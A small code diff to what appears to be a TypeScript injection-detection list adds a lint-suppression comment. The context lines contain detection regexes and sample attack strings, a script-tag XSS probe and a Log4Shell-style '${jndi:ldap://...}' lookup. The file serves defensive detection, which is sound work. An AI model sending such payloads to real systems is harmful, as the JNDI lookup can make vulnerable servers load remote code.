@@ -39,6 +39,7 @@ export const INJECTION_PATTERNS: readonly InjectionPattern[] = [
       /<\s{0,4}\/?(script|iframe|img|svg|object|embed|body)\b|javascript:|\bon(error|load|mouseover|focus)\s{0,4}=/,
     example: "<script>alert(1)</script>",
   },
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text that attackers send.
   { name: "expression lookup", pattern: /\$\{[^}]{0,8}[a-z:]/, example: "${jndi:ldap://x/a}" },
   {
     name: "template",
